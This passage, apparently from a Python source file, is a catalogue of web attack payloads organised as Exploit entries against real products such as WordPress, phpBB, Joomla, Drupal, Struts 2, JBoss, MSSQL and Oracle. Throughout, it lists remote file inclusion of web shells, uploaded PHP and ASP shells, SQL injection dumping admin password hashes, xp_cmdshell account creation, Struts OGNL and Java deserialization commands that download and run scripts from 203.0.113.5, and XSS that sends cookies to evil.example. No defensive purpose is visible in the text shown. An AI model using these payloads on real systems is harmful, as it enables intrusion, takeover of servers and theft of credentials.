                ("module", "http://evil.example/bot.txt?&"),
            )),
    Exploit("rfi", "timthumb-rfi", "query", ("/wp-content/themes/twentyten/timthumb.php",), (
        ("/wp-content/themes/twentyten/timthumb.php", "src", "http://blogger.com.evil.example/shell.php"),
        ("/wp-content/themes/x/scripts/timthumb.php", "src", "http://picasa.com.evil.example/s.php"),
        ("/wp-content/themes/x/thumb.php", "src", "http://wordpress.com.203.0.113.5.nip.io/x.php"),
        ("/wp-content/plugins/x/timthumb.php", "src", "http://img.youtube.com.evil.example/x.php"),
    ), extra=(("w", "100"), ("h", "100"))),
    # ---------------------------------------------------------------- php
    Exploit("php", "php-cgi-argument-injection", "rawquery",
            ("/cgi-bin/php", "/index.php", "/cgi-bin/php5", "/cgi-bin/php-cgi", "/cgi-bin/php.cgi",
             "/php-cgi/php-cgi.exe"), (
                "-s",
                "-d+allow_url_include%3don+-d+safe_mode%3doff+-d+suhosin.simulation%3don+-d+disable_functions%3d%22"
                "%22+-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp%3a//input+-d+cgi.force_redirect%3d0+-d+"
                "cgi.redirect_status_env%3d0+-n",
                hexurl("-d allow_url_include=on -d auto_prepend_file=php://input"),
                "-d+auto_prepend_file%3dhttp://203.0.113.5/x.txt",
                "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
                "-dsafe_mode%3dOff+-ddisable_functions%3dNULL+-dallow_url_fopen%3dOn+-dallow_url_include%3dOn"
                "+-dauto_prepend_file%3d%2Fproc%2Fself%2Fenviron",
            ), ctype="<?php echo \"Content-Type:text/html\\r\\n\\r\\n\"; system('id'); die(); ?>"),
    Exploit("php", "phpbb-highlight-eval", "query",
            ("/viewtopic.php", "/phpBB2/viewtopic.php", "/forum/viewtopic.php", "/phpbb/viewtopic.php"), (
                "%27.passthru($HTTP_GET_VARS[cmd]).%27",
                "'.system(chr(105).chr(100)).'",
                "%27.printf(md5(1)).%27",
                "%27%2esystem(%24_GET%5bcmd%5d)%2e%27",
                "'.include($_GET[a]).'",
                "%2527.fwrite(fopen(chr(120).chr(46).chr(112).chr(104).chr(112),chr(119)),chr(60).chr(63)).%2527",
                "'.eval(base64_decode($_GET[x])).'",
            ), param="highlight", extra=(("t", "1"), ("cmd", "id"))),
    Exploit("php", "preg-replace-e-injection", "query",
            ("/index.php", "/search.php", "/admin/replace.php", "/tools/regex.php"), (
                [("pattern", "/.*/e"), ("replacement", "system('id')")],
                [("search", "/x/e"), ("replace", "phpinfo()")],
                [("regex", "/(.*)/e"), ("replace", "eval(base64_decode('cGhwaW5mbygpOw=='))")],
                [("find", "/^/e"), ("rep", "passthru($_GET[c])"), ("c", "uname -a")],
                [("pat", "/a/e"), ("rep", "${system('id')}")],
                [("match", "/.*/e"), ("with", "file_put_contents('x.php','<?php eval($_POST[1]);?>')")],
            )),
    Exploit("php", "eval-parameter-injection", "query",
            ("/index.php", "/shell.php", "/cmd.php", "/eval.php", "/test.php", "/x.php"), (
                ("eval", "phpinfo();"),
                ("cmd", "system('id');"),
                ("code", "passthru('uname -a');"),
                ("x", "${@print(md5(123))}"),
                ("page", "${@phpinfo()}"),
                ("c", "echo(md5(\"test\"));die;"),
                ("exec", "@eval($_POST[1]);"),
                ("q", "';phpinfo();//"),
            )),
    Exploit("php", "assert-injection", "query", ("/index.php", "/page.php", "/view.php"), (
        ("assert", "system('id')"),
        [("_", "assert"), ("__", "eval($_POST[x])")],
        [("a", "assert"), ("b", "system(\"id\")")],
        [("f", "assert"), ("c", "phpinfo()")],
        ("page", "' and die(system('cat /etc/passwd')) or '"),
        ("page", "'.system('id').'"),
    )),
    Exploit("php", "tikiwiki-graph-formula", "query", ("/tiki-graph_formula.php", "/tiki/tiki-graph_formula.php"), (
        "x.tan.phpinfo()",
        "x.tan.system(chr(105).chr(100))",
        "x.tan.passthru($_SERVER[HTTP_X_CMD])",
    ), param="f[]", extra=(("w", "1"), ("h", "1"), ("s", "1"), ("min", "1"), ("max", "2"), ("t", "png"),
                           ("title", ""))),
    Exploit("php", "php-wrapper-inclusion", "query", ("/index.php", "/main.php", "/view.php"), (
        ("page", "php://filter/convert.base64-encode/resource=index"),
        ("file", "php://filter/read=string.rot13/resource=config.php"),
        ("page", "php://input"),
        ("page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4="),
        ("file", "data:text/plain,<?php phpinfo();?>"),
        ("page", "expect://id"),
        ("inc", "zip://uploads/avatar.jpg#shell"),
        ("lang", "phar://./uploads/x.gif/shell"),
    )),
    Exploit("php", "php-xmlrpc-eval", "body",
            ("/xmlrpc.php", "/blog/xmlrpc.php", "/drupal/xmlrpc.php", "/xmlrpc/server.php"), (
                xmlrpc_body("','')); echo '_begin_\\n'; echo `id`; echo '_end_\\n';exit;/*"),
                xmlrpc_body("','')); system('id'); exit;/*"),
                xmlrpc_body("','')); passthru('uname -a'); exit;/*"),
                xmlrpc_body("test')||eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));//"),
            ), ctype="text/xml", placement="xml"),
    Exploit("php", "joomla-session-object-injection", "header", ("/", "/index.php", "/joomla/"), (
        ("User-Agent", joomla_obj("phpinfo();JFactory::getConfig();exit;")),
        ("X-Forwarded-For", joomla_obj("eval(base64_decode($_POST[111]));JFactory::getConfig();exit;")),
        ("User-Agent", joomla_obj("system('id');JFactory::getConfig();exit;")),
    )),
    Exploit("php", "phpmyadmin-setup-injection", "form",
            ("/phpmyadmin/scripts/setup.php", "/phpMyAdmin/scripts/setup.php", "/pma/scripts/setup.php"), (
                [("action", "test"),
                 ("configuration", 'a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:11:"/etc/passwd";}}')],
                [("token", "x"), ("action", "save"),
                 ("configuration", 'a:1:{s:7:"Servers";a:1:{i:0;a:1:{s:29:"host\']=\'\';system($_GET[c]);//";'
                                   's:9:"localhost";}}}')],
                [("action", "lay_navigation"), ("eoltype", "unix"),
                 ("configuration", 'a:1:{i:0;O:10:"PMA_Config":1:{s:6:"source";s:23:"/var/www/config.inc.php";}}')],
            )),
    Exploit("php", "vbulletin-object-injection", "query",
            ("/ajax/api/hook/decodeArguments", "/forum/ajax/api/hook/decodeArguments"), (
                'O:12:"vB_dB_Result":2:{s:5:"*db";O:11:"vB_Database":1:{s:9:"functions";a:1:{s:11:"free_result";'
                's:6:"system";}}s:12:"*recordset";s:2:"id";}',
                'O:12:"vB_dB_Result":2:{s:5:"*db";O:11:"vB_Database":1:{s:9:"functions";a:1:{s:11:"free_result";'
                's:6:"assert";}}s:12:"*recordset";s:9:"phpinfo()";}',
            ), param="arguments"),
    Exploit("php", "phpmailer-sender-injection", "form", ("/contact.php", "/contact/send.php", "/sendmail.php"), (
        "\"attacker\\\" -oQ/tmp/ -X/var/www/html/shell.php  some\"@email.com",
        "\"attacker\\\" -oQ/tmp/ -X/var/www/html/x.php -OQueueDirectory=/tmp\"@example.com",
        "x@example.com -X/var/www/html/log.php",
    ), param="email",
        extra=(("name", "<?php echo shell_exec($_GET['c']); ?>"), ("subject", "hello"), ("message", "hi"))),
    Exploit("php", "fckeditor-upload", "multipart",
            ("/FCKeditor/editor/filemanager/connectors/php/connector.php?Command=FileUpload&Type=File&"
             "CurrentFolder=%2F",
             "/fckeditor/editor/filemanager/upload/php/upload.php",
             "/admin/fckeditor/editor/filemanager/connectors/php/upload.php?Type=File",
             "/FCKeditor/editor/filemanager/browser/default/connectors/php/connector.php?Command=FileUpload&"
             "Type=File&CurrentFolder=/"), (
                ("NewFile", "shell.php", "application/octet-stream", "<?php eval($_POST[cmd]);?>"),
                ("NewFile", "shell.php.jpg", "image/jpeg", "GIF89a<?php system($_GET['c']); ?>"),
                ("NewFile", "x.asp;.jpg", "image/jpeg", "<%eval request(\"cmd\")%>"),
                ("NewFile", "cmd.phtml", "text/plain", "<?php passthru($_REQUEST['x']); ?>"),
            ), placement="multipart-filename"),
    Exploit("php", "wordpress-plugin-upload", "multipart",
            ("/wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php?Year=2015&Month=01",
             "/wp-content/plugins/wp-symposium/server/php/index.php",
             "/wp-admin/admin-ajax.php?action=upload_file"), (
                ("qqfile", "s.php", "application/octet-stream", "<?php system($_GET['c']); ?>"),
                ("files[]", "x.php5", "application/x-php", "<?php @eval($_POST['p']); ?>"),
                ("file", "up.php", "image/gif", "GIF89a;<?php echo `id`; ?>"),
            ), placement="multipart-filename"),
    # ---------------------------------------------------------------- sqli
    Exploit("sqli", "phpbb-viewtopic-sqli", "query", ("/viewtopic.php", "/phpBB2/viewtopic.php", "/search.php"), (
        ("topic_id", "-1 union select ord(substring(user_password,1,1)) from phpbb_users where user_id=2/*"),
        ("t", "1 UNION SELECT username,user_password FROM phpbb_users WHERE user_id=2--"),
        ("p", "1 union select 1,user_password,3 from phpbb_users/*"),
        ("forum_id", "-1 UNION SELECT null,concat(username,char(58),user_password) FROM phpbb_users--"),
        ("search_id", "1' UNION SELECT user_password FROM phpbb_users WHERE user_level=1/*"),
    )),
    Exploit("sqli", "php-nuke-sqli", "query", ("/modules.php",), (
        [("name", "Downloads"), ("d_op", "viewdownload"),
         ("cid", "-1/**/union/**/select/**/0,aid,pwd,0,0/**/from/**/nuke_authors")],
        [("name", "News"), ("file", "article"), ("sid", "1 union select pwd from nuke_authors where radminsuper=1")],
        [("name", "Web_Links"), ("l_op", "viewlink"), ("cid", "-1 UNION SELECT pwd,0 FROM nuke_authors")],
        [("name", "Your_Account"), ("op", "userinfo"),
         ("username", "x' union select user_password from nuke_users where uid=2/*")],
    )),
    Exploit("sqli", "oscommerce-sqli", "query", ("/product_info.php",), (
        ("/product_info.php", "products_id",
         "1' union select 1,concat(user_name,0x3a,user_password),3,4 from administrators-- -"),
        ("/index.php", "cPath", "1' and 1=2 union select 1,2,concat(user_name,0x3a,user_password),4 from "
                                "administrators/*"),
        ("/product_reviews_write.php", "products_id",
         "-1 union select 1,user_name,user_password,4 from administrators"),
        ("/shopping_cart.php", "products_id", "1 and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))"
                                              "x from information_schema.tables group by x)a)"),
        ("/advanced_search_result.php", "keywords", "x' union select 1,2,3,database()#"),
        ("/specials.php", "page", "1' AND SLEEP(5) AND '1'='1"),
    )),
    Exploit("sqli", "joomla-component-sqli", "query", ("/index.php",), (
        [("option", "com_fields"), ("view", "fields"), ("layout", "modal"),
         ("list[fullordering]", "updatexml(0x3a,concat(1,(select user())),1)")],
        [("option", "com_contenthistory"), ("view", "history"), ("list[ordering]", ""), ("item_id", "1"),
         ("type_id", "1"), ("list[select]", "(select 1 from (select count(*),concat((select (select concat(password))"
                                            " from jos_users limit 0,1),floor(rand(0)*2))x from "
                                            "information_schema.tables group by x)a)")],
        [("option", "com_artforms"), ("task", "ferforms"),
         ("viewform", "-1 union select 1,concat(username,0x3a,password),3 from jos_users--")],
        [("option", "com_content"), ("task", "blogcategory"),
         ("id", "-1 UNION SELECT 1,2,concat(username,char(58),password),4,5 FROM jos_users/*")],
        [("option", "com_user"), ("view", "reset"), ("layout", "confirm"), ("token", "'")],
        [("option", "com_jdownloads"), ("task", "view.download"),
         ("cid", "-1 union select 1,concat_ws(0x3a,username,password),3 from jos_users--")],
        [("option", "com_weblinks"),
         ("catid", "-1 union all select 1,2,group_concat(username,0x3a,password),4 from jos_users--")],
    )),
    Exploit("sqli", "wordpress-plugin-sqli", "query", ("/",), (
        ("/wp-content/plugins/all-video-gallery/config.php",
         [("vid", "1"), ("pid", "-1 union select 1,2,3,4,group_concat(user_login,0x3a,user_pass),6 from wp_users--")]),
        ("/", [("page_id", "2"), ("forumaction", "showprofile"),
               ("user", "1 union select 1,user_login,user_pass,4 from wp_users--")]),
        ("/wp-admin/admin-ajax.php", [("action", "spiderbigcalendar_month"), ("theme_id", "13"),
                                      ("calendar", "1 union select user_pass from wp_users")]),
        ("/wp-content/plugins/wp-symposium/get_album_item.php", [("size", "version(); --")]),
        ("/", [("cat", "1 union all select 1,concat(user_login,0x3a,user_pass),3 from wp_users--")]),
        ("/wp-admin/admin.php", [("page", "slimstat"), ("fs", "1' union select user_pass from wp_users-- ")]),
    )),
    Exploit("sqli", "cms-union-concat-sqli", "query",
            ("/news.php", "/article.php", "/index.php", "/item.php", "/show.php", "/view.php"), (
                ("id", "-1 UNION SELECT 1,CONCAT(user,0x3a,pass),3 FROM users--"),
                ("id", "-1 union select 1,2,concat_ws(0x3a,username,password),4 from admin--"),
                ("news_id", "1 and 1=0 union select 1,concat(username,0x3a,password),3,4 from users"),
                ("cat", "1/**/UNION/**/SELECT/**/1,concat(login,char(58),pass),3/**/FROM/**/members/*"),
                ("pid", "-1' UNION ALL SELECT NULL,CONCAT(0x7e,user(),0x7e,database(),0x7e,version()),NULL-- -"),
                ("id", "1 aND 1=2 UnIoN SeLeCt 1,group_concat(username,0x3a,password),3 from admin"),
                ("itemid", "-9 union select 1,2,unhex(hex(concat(user_name,0x3a,user_pass))),4 from tbl_users--"),
                ("id", "1' /*!UNION*/ /*!SELECT*/ 1,concat(username,0x3a,password) from users-- -"),
            )),
    Exploit("sqli", "information-schema-enumeration", "query", ("/index.php", "/news.php", "/product.php"), (
        ("id", "1 and 1=2 union select 1,group_concat(table_name),3 from information_schema.tables where "
               "table_schema=database()--"),
        ("id", "-1 union select 1,column_name,3 from information_schema.columns where table_name=0x7573657273--"),
        ("cat", "1' and extractvalue(1,concat(0x7e,(select table_name from information_schema.tables limit 0,1)))-- "),
        ("id", "1 and (select 1 from(select count(*),concat((select schema_name from information_schema.schemata "
               "limit 0,1),floor(rand(0)*2))x from information_schema.tables group by x)a)"),
        ("page", "1 union select 1,2,table_name from information_schema.tables--"),
    )),
    Exploit("sqli", "mssql-xp-cmdshell", "query", ("/default.asp", "/news.asp", "/product.asp"), (
        ("id", "1;exec master..xp_cmdshell 'ping 203.0.113.5'--"),
        ("id", "1';EXEC xp_cmdshell 'dir c:\\'--"),
        ("id", "1; exec sp_configure 'show advanced options',1;RECONFIGURE;exec sp_configure 'xp_cmdshell',1;"
               "RECONFIGURE--"),
        ("user", "admin'; exec master.dbo.xp_cmdshell 'net user hax Passw0rd /add'--"),
        ("id", "1;EXEC master..xp_cmdshell 'tftp -i 203.0.113.5 GET nc.exe'--"),
        ("cat", "1'; exec('xp_'+'cmdshell ''whoami''')--"),
    )),
    Exploit("sqli", "mssql-asprox-cast", "query", ("/default.asp", "/news.asp", "/page.asp"), (
        ("id", f"1;DECLARE @S VARCHAR(4000);SET @S=CAST({mssql_hex(ASPROX)} AS VARCHAR(4000));EXEC(@S);--"),
        ("id", "1';dEcLaRe @s vArChAr(8000) sEt @s=0x73656c65637420404076657273696f6e exec(@s)--"),
        ("cat", "2;" + ASPROX),
        ("id", "1;update news set title=title+'<script src=http://evil.example/b.js></script>'--"),
        ("page", f"1;EXEC(CAST({mssql_hex('select @@version')} AS NVARCHAR(4000)))--"),
    )),
    Exploit("sqli", "mssql-sp-procedures", "query", ("/default.asp", "/login.asp", "/search.asp"), (
        ("id", "1';exec master.dbo.sp_addlogin 'hax','hax';exec master.dbo.sp_addsrvrolemember 'hax','sysadmin'--"),
        ("id", "1; exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select * from users'--"),
        ("id", "1 and 1=convert(int,@@version)--"),
        ("id", "1';waitfor delay '0:0:10'--"),
        ("id", "-1 union select null,name,password from master..sysxlogins--"),
        ("q", "'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; exec sp_oamethod @o,'run',null,"
              "'cmd /c dir'--"),
        ("id", "1;exec master..xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft','x'--"),
        ("id", "1 union select 1,db_name(),@@servername--"),
    )),
    Exploit("sqli", "oracle-utl-packages", "query", ("/products.jsp", "/servlet/Search", "/catalog.jsp"), (
        ("id", "1||utl_http.request('http://203.0.113.5/'||(select user from dual))"),
        ("id", "1 and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))"),
        ("name", "x' union select null,username,password from dba_users--"),
        ("id", "1 AND 1=CTXSYS.DRITHSX.SN(1,(select user from dual))"),
        ("q", "'||dbms_pipe.receive_message(('a'),10)||'"),
        ("id", "1 and 1=dbms_xmlgen.getxml('select 1 from dual')"),
        ("id", "1 and (select count(*) from all_users)>0"),
        ("id", "1 union select sys.login_user,null from dual--"),
    )),
    Exploit("sqli", "oracle-plsql-gateway", "rawuri", (), (
        "/pls/portal/%0A.owa_util.cellsprint?p_theQuery=select+*+from+sys.dba_users",
        "/pls/dad/owa_util.cellsprint?p_thequery=select+username,password+from+dba_users",
        "/pls/portal/%20SYS.OWA_UTIL.CELLSPRINT?P_THEQUERY=SELECT+USERNAME+FROM+ALL_USERS",
        "/pls/portal/%3C%3C%22LBL%22%3E%3Eowa_util.cellsprint?p_thequery=select+1+from+dual",
    ), placement="path"),
    Exploit("sqli", "drupalgeddon-sqli", "pname", ("/?q=node&destination=node", "/user/login", "/?q=user/login"), (
        "name[0%20;update+users+set+name%3D'admin'+,+pass+%3D+'$S$CTo9G7Lx2rJENglhirA8oi7v9LtLYWFrGm.F.0Jurx3aJAmSJ53g'"
        "+where+uid+%3D+'1';;#%20%20]=test3&name[0]=test&pass=test&form_id=user_login_block&op=Log+in",
        "name[0;insert into users(uid,name,pass,status) values(999,'hax','x',1);#]=x&name[0]=y&pass=z&"
        "form_id=user_login_block&op=Log+in",
        "name[0 and extractvalue(1, concat(0x5c, (select md5(1))));#]=x&name[0]=y&pass=z&form_id=user_login"
        "&op=Log+in",
    ), method="POST"),
    Exploit("sqli", "login-form-bypass", "form", ("/login.asp", "/admin/login.php", "/admin/index.php"), (
        ("username", "admin'--"),
        ("user", "' or 1=1--"),
        ("uname", "admin' or '1'='1"),
        ("login", "') or ('a'='a"),
        ("pwd", "' or ''='"),
        ("username", "admin'/*"),
    ), extra=(("username", "admin"), ("pwd", "x"), ("submit", "Login"))),
    # ---------------------------------------------------------------- xss
    Exploit("xss", "search-page-xss", "query",
            ("/search.php", "/", "/index.php", "/search.aspx", "/search.jsp", "/cgi-bin/search.cgi"), (
                ("q", "<script>alert(document.cookie)</script>"),
                ("s", "\"><script>alert(1)</script>"),
                ("searchword", "<ScRiPt>alert('XSS')</ScRiPt>"),
                ("query", "\"><img src=x onerror=alert(String.fromCharCode(88,83,83))>"),
                ("keywords", "'';!--\"<XSS>=&{()}"),
                ("search", "<IMG SRC=\"javascript:alert('XSS');\">"),
                ("search_query", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>"),
                ("term", "</title><script>alert(/xss/)</script>"),
            )),
    Exploit("xss", "error-page-xss", "query", ("/default.aspx",), (
        ("/default.aspx", "aspxerrorpath", "<script>alert('XSS')</script>"),
        ("/404.php", "url", "<img src=x onerror=alert(1)>"),
        ("/error.jsp", "msg", "<iframe src=javascript:alert(1)>"),
        ("/error.php", "error", "\"><body onload=alert(1)>"),
        ("/CFIDE/debug/cf_debugFr.cfm", "userPage", "javascript:alert(1)"),
        ("/index.php", "err", "<svg/onload=alert(document.domain)>"),
    )),
    Exploit("xss", "error-page-xss", "rawuri", (), (
        ("/%3Cscript%3Ealert(1)%3C/script%3E.html", "path"),
        ("/cgi-bin/printenv?%3Cscript%3Ealert(1)%3C/script%3E", "query"),
        ("/examples/jsp/%3Cscript%3Ealert(document.cookie)%3C/script%3E.jsp", "path"),
    )),
    Exploit("xss", "legacy-ie-xss-vectors", "query", ("/search.php", "/guestbook.php", "/index.asp"), (
        ("q", "<div style=\"width:expression(alert(1))\">"),
        ("q", "<IMG SRC=\"vbscript:msgbox('XSS')\">"),
        ("name", "<IMG DYNSRC=\"javascript:alert(1)\">"),
        ("q", "<BGSOUND SRC=\"javascript:alert(1);\">"),
        ("msg", "<BODY BACKGROUND=\"javascript:alert(1)\">"),
        ("q", "<STYLE>@import'javascript:alert(1)';</STYLE>"),
        ("title", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">"),
        ("q", "<XSS STYLE=\"behavior: url(xss.htc);\">"),
    )),
    Exploit("xss", "header-reflection-xss", "header", ("/", "/index.php", "/cgi-bin/printenv", "/stats/"), (
        ("Expect", "<script>alert(1)</script>"),
        ("Referer", "\"><script>alert(1)</script>"),
        ("User-Agent", "<script>alert(document.cookie)</script>"),
        ("X-Forwarded-For", "<img src=x onerror=alert(1)>"),
    )),
    Exploit("xss", "guestbook-stored-xss", "form",
            ("/guestbook.php", "/cgi-bin/guestbook.pl", "/posting.php", "/comment.php"), (
                ("comment", "<script>document.location='http://evil.example/c.php?c='+document.cookie</script>"),
                ("message", "[url=javascript:alert(1)]click[/url]"),
                ("message", "[img]javascript:alert(1)[/img]"),
                ("name", "<a href=\"javascript:alert(1)\">x</a>"),
                ("comment", "<iframe src=http://evil.example/ width=0 height=0></iframe>"),
                ("url", "http://x\" onmouseover=\"alert(1)"),
            ), extra=(("name", "visitor"), ("email", "v@example.com"), ("comment", "great"))),
    # ---------------------------------------------------------------- java
    Exploit("java", "struts2-ognl-param", "query", ("/login.action",), (
        ("/login.action", "x", "%{(#_memberAccess['allowStaticMethodAccess']=true)(#context['xwork.MethodAccessor"
                               ".denyMethodExecution']=false)(#writer=@org.apache.struts2.ServletActionContext@"
                               "getResponse().getWriter(),#writer.println('hacked'),#writer.close())}"),
        ("/devmode.action", [("debug", "command"),
                             ("expression", "(#_memberAccess[\"allowStaticMethodAccess\"]=true,#foo=new java.lang."
                                            "Boolean(\"false\"),#context[\"xwork.MethodAccessor.denyMethodExecution\"]"
                                            "=#foo,@java.lang.Runtime@getRuntime().exec('id'))")]),
        ("/login.action", "username", "%{@java.lang.Runtime@getRuntime().exec('id')}"),
        ("/example/HelloWorld.action", [("debug", "command"),
                                        ("expression", "#a=(new java.lang.ProcessBuilder('whoami')).start(),#b=#a."
                                                       "getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new "
                                                       "java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),"
                                                       "#out=#context.get('com.opensymphony.xwork2.dispatcher."
                                                       "HttpServletResponse'),#out.getWriter().println(new java.lang."
                                                       "String(#e)),#out.getWriter().flush()")]),
        ("/index.action", "name", "${(#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@"
                                  "getRuntime().exec('id'))}"),
        ("/user.action", "id", "%{#a=new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'})."
                               "redirectErrorStream(true).start()}"),
    )),
    Exploit("java", "struts2-prefix-redirect", "rawquery",
            ("/index.action", "/login.action", "/struts2-showcase/index.action", "/home.do"), (
                "redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start(),%23b%3d"
                "%23a.getInputStream(),%23c%3dnew%20java.io.InputStreamReader(%23b),%23d%3dnew%20java.io."
                "BufferedReader(%23c),%23e%3dnew%20char[50000],%23d.read(%23e),%23matt%3d%23context.get('com."
                "opensymphony.xwork2.dispatcher.HttpServletResponse'),%23matt.getWriter().println(%23e),%23matt."
                "getWriter().flush(),%23matt.getWriter().close()}",
                "action:%25{3*4}",
                "redirectAction:${%23context['xwork.MethodAccessor.denyMethodExecution']%3dfalse,%23_memberAccess"
                "['allowStaticMethodAccess']%3dtrue,@java.lang.Runtime@getRuntime().exec('id')}",
                "method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2."
                "ServletActionContext%40getResponse(),%23w%3d%23res.getWriter(),%23s%3dnew+java.util.Scanner(@java."
                "lang.Runtime@getRuntime().exec(%23parameters.cmd%5B0%5D).getInputStream()).useDelimiter(%23"
                "parameters.pp%5B0%5D),%23str%3d%23s.hasNext()%3f%23s.next()%3a%23parameters.ppp%5B0%5D,%23w.print"
                "(%23str),%23w.close(),1?%23xx:%23request.toString&cmd=id&pp=%5C%5CA&ppp=%20&encoding=UTF-8",
                "redirect:http://evil.example/",
            )),
    Exploit("java", "struts2-param-name", "pname", ("/login.action", "/index.action", "/HelloWorld.action"), (
        "('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true&(aaa)(('\\u0023context[\\'xwork."
        "MethodAccessor.denyMethodExecution\\']\\u003d\\u0023foo')(\\u0023foo\\u003dnew%20java.lang.Boolean(%22false"
        "%22)))&(asdf)(('\\u0023rt.exec(%22id%22)')(\\u0023rt\\u003d@java.lang.Runtime@getRuntime()))=1",
        "('\\43_memberAccess.allowStaticMethodAccess')(a)=true&(b)(('\\43context[\\'xwork.MethodAccessor."
        "denyMethodExecution\\']\\75false')(b))&('\\43c')(('\\43_memberAccess.excludeProperties\\75@java.util."
        "Collections@EMPTY_SET')(c))&(g)(('\\43req\\75@org.apache.struts2.ServletActionContext@getRequest()')(d))",
        "foo=%27%2B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%2C%40java.lang.Runtime%40"
        "getRuntime%28%29.exec%28%27id%27%29%29%2B%27&z[(foo)('meh')]=true",
        "class.classLoader.jarPath=(%23context[\"xwork.MethodAccessor.denyMethodExecution\"]%3d+new+java.lang."
        "Boolean(false),+%23_memberAccess[\"allowStaticMethodAccess\"]%3dtrue,+%23a%3d@java.lang.Runtime@"
        "getRuntime().exec('id'))(aa)&x[(class.classLoader.jarPath)('aa')]",
    )),
    Exploit("java", "struts2-content-type", "header",
            ("/index.action", "/upload.action", "/struts2-showcase/fileupload/doUpload.action", "/login.action"), (
                ("Content-Type", S2_045.replace("{cmd}", "id")),
                ("Content-Type", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader("
                                 "'X-Test',233*233)}.multipart/form-data"),
                ("Content-Type", S2_045.replace("{cmd}", "wget http://203.0.113.5/x.sh -O /tmp/x.sh;sh /tmp/x.sh")),
                ("Content-Type", "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
                                 "(#_memberAccess=#dm).(#cmd='whoami').(#p=new java.lang.ProcessBuilder({'/bin/sh',"
                                 "'-c',#cmd})).(#p.start())}"),
                ("Content-Type", "multipart/form-data %{#context['com.opensymphony.xwork2.dispatcher."
                                 "HttpServletResponse'].getWriter().println('vuln')}"),
            ), method="POST"),
    Exploit("java", "struts2-multipart-filename", "multipart", ("/upload.action", "/doUpload.action"), (
        ("upload", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Test',"
                   "'Kaboom')}b", "text/plain", "x"),
        ("upload", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess"
                   "=#dm).(@java.lang.Runtime@getRuntime().exec('id'))}b", "text/plain", "x"),
    ), placement="multipart-filename"),
    Exploit("java", "struts2-xstream-rest", "body",
            ("/struts2-rest-showcase/orders/3", "/orders/3/edit"), (
                XSTREAM.replace("{cmd}", "<string>id</string>"),
                XSTREAM.replace("{cmd}", "<string>/bin/sh</string><string>-c</string><string>wget "
                                         "http://203.0.113.5/x -O /tmp/x</string>"),
            ), ctype="application/xml", placement="xml"),
    Exploit("java", "struts1-classloader", "query", ("/login.do",), (
        ("/login.do", "class.classLoader.defaultAssertionStatus", "true"),
        ("/index.do", "class['classLoader'].resources.dirContext.docBase", "\\\\203.0.113.5\\share"),
        ("/welcome.do", "class.classLoader.URLs[0]", "http://evil.example/x.jar"),
        ("/login.do", "class.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
        ("/index.do", "class.classLoader.resources.context.parent.pipeline.first.prefix", "shell"),
        ("/login.do", "Class.ClassLoader.DefaultAssertionStatus", "1"),
    ), placement="param-name"),
    Exploit("java", "jboss-jmx-console", "rawuri", (), (
        ("/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer&methodIndex=17&arg0=http://"
         "203.0.113.5/shell.war", "query"),
        ("/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.admin:service=DeploymentFileRepository&methodName"
         "=store&argType=java.lang.String&arg0=shell.war&argType=java.lang.String&arg1=shell&argType=java.lang.String"
         "&arg2=.jsp&argType=java.lang.String&arg3=%3C%25Runtime.getRuntime().exec(request.getParameter(%22c%22));"
         "%25%3E&argType=boolean&arg4=True", "query"),
        ("/jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:type=ServerInfo", "query"),
        ("/admin-console/login.seam?actionOutcome=/pwn.xhtml?pwned%3d%23{expressions.getClass().forName('java.lang."
         "Runtime').getDeclaredMethods()[19].invoke(expressions.getClass().forName('java.lang.Runtime')."
         "getDeclaredMethods()[7].invoke(null),'id')}", "query"),
    )),
    Exploit("java", "jboss-invoker-deserialization", "body",
            ("/invoker/JMXInvokerServlet", "/invoker/EJBInvokerServlet", "/invoker/readonly",
             "/jbossmq-httpil/HTTPServerILServlet"), (
                SER_CC.replace("{cmd}", "id"),
                SER_CC.replace("{cmd}", "wget http://203.0.113.5/x -O /tmp/x"),
                SER_CC.replace("{cmd}", "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}"),
                SER_CC.replace("{cmd}", "ping -c 1 203.0.113.5"),
            ), ctype="application/x-java-serialized-object", placement="raw-body"),
    Exploit("java", "coldfusion-admin", "rawuri", (), (
        ("/CFIDE/adminapi/administrator.cfc?method=login&adminpassword=&rdsPasswordAllowed=true", "query"),
        ("/CFIDE/scripts/ajax/FCKeditor/editor/filemanager/connectors/cfm/upload.cfm?Command=FileUpload&Type=File&"
         "CurrentFolder=/shell.jsp%00", "query"),
        ("/CFIDE/componentutils/login.cfm", "path"),
        ("/CFIDE/administrator/index.cfm", "path"),
        ("/CFIDE/adminapi/base.cfc?wsdl", "path"),
